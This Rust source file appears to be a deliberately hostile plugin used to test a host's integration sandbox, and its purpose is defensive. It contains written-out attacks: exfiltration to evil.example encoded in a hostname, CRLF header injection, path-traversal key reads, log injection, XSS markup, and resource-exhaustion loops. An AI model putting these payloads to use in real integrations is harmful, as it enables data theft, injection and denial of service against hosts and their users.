//! An integration that does whatever its setting `attack` says, when its connection is tested. What the host answers it
//! is in the name of the account, or in the failure.

use fumehood_sdk::integration::{
    self as sdk, Account, Attachment, Document, Draft, Failure, Guest, Item, PageOfItems, PageOfProjects, Published,
    Query, failure, kv, log, setting, unsupported,
};

struct Plugin;

fn get(url: &str) -> Result<String, Failure> {
    let (status, _, bytes) = sdk::send("GET", url, Vec::new(), None)?;
    Ok(format!("{status} with {} bytes", bytes.len()))
}

fn attack(name: &str) -> Result<String, Failure> {
    let base = setting("base-url")?.trim_end_matches('/').to_owned();
    let target = || setting("target");
    match name {
        // As its settings say: the one that has to work.
        "honest" => get(&format!("{base}/me")),
        "get-target" => get(&target()?),
        "post-target" => sdk::send("POST", &target()?, Vec::new(), Some(b"x".to_vec())).map(|done| done.0.to_string()),
        "delete" => sdk::send("DELETE", &format!("{base}/me"), Vec::new(), None).map(|done| done.0.to_string()),
        // The names of hosts and paths carry what was read.
        "exfiltrate-by-name" => get("https://c2VjcmV0.evil.example/"),
        "exfiltrate-by-path" => get(&format!("{base}/../../c2VjcmV0")),
        "credential-elsewhere" => {
            let headers = vec![sdk::credential("authorization", "credential")];
            sdk::send("GET", &target()?, headers, None).map(|done| done.0.to_string())
        }
        "credential-of-another" => {
            let headers = vec![sdk::credential("authorization", "api-token")];
            sdk::send("GET", &format!("{base}/me"), headers, None).map(|done| done.0.to_string())
        }
        "headers" => {
            let headers = (0..100_000).map(|at| sdk::header(&format!("x-{at}"), "y")).collect();
            sdk::send("GET", &format!("{base}/me"), headers, None).map(|done| done.0.to_string())
        }
        "header-injection" => {
            let headers = vec![sdk::header("x-a", "b\r\nhost: evil.example")];
            sdk::send("GET", &format!("{base}/me"), headers, None).map(|done| done.0.to_string())
        }
        "large-body" => sdk::send("POST", &format!("{base}/tickets"), Vec::new(), Some(vec![b'x'; 65537]))
            .map(|done| done.0.to_string()),
        "fill-the-store" => {
            for at in 0..100_000 {
                kv::set(&format!("key/{at}"), &[b'x'; 8192])?;
            }
            Ok("all of it was kept".to_owned())
        }
        "read-others" => {
            let mut found = Vec::new();
            let keys = ["ticket/", "../ticket/", "rust-integration/ticket/", "integration:1/ticket", "", "%", "\0"];
            for key in keys.iter().map(|key| (*key).to_owned()).chain(target()) {
                // A key that is refused leads nowhere either.
                if let Ok(Some(value)) = kv::get(&key) {
                    found.push(format!("{key}={}", String::from_utf8_lossy(&value)));
                }
            }
            Ok(format!("found {found:?}"))
        }
        "flood-the-log" => {
            for at in 0..5_000 {
                log(format!(
                    "\u{1b}[2J\u{1b}[31m{at}\r\n2026-01-01T00:00:00Z INFO admin signed in <script>alert(1)</script>"
                ));
            }
            Ok("logged".to_owned())
        }
        "markup" => Ok("<script>alert(1)</script><img src=x onerror=alert(1)>".to_owned()),
        "loop-of-requests" => loop {
            get(&format!("{base}/me"))?;
        },
        other => Err(failure("invalid", format!("no attack {other}"))),
    }
}

impl Guest for Plugin {
    fn capabilities() -> Vec<String> {
        vec!["test-connection".to_owned()]
    }

    fn test_connection() -> Result<Account, Failure> {
        let name = attack(&setting("attack")?)?;
        Ok(Account { name, product: "Outlaw".to_owned(), extensions: Vec::new() })
    }

    fn list_projects(_: Option<String>) -> Result<PageOfProjects, Failure> {
        unsupported()
    }

    fn search(_: Query) -> Result<PageOfItems, Failure> {
        unsupported()
    }

    fn get(_: String) -> Result<Item, Failure> {
        unsupported()
    }

    fn create(_: Draft) -> Result<Item, Failure> {
        unsupported()
    }

    fn update(_: String, _: String, _: Draft) -> Result<Item, Failure> {
        unsupported()
    }

    fn sync_since(_: String, _: Option<String>) -> Result<PageOfItems, Failure> {
        unsupported()
    }

    fn publish_document(_: Document) -> Result<Published, Failure> {
        unsupported()
    }

    fn attach(_: String, _: Attachment) -> Result<String, Failure> {
        unsupported()
    }
}

fumehood_sdk::integration::export!(Plugin);
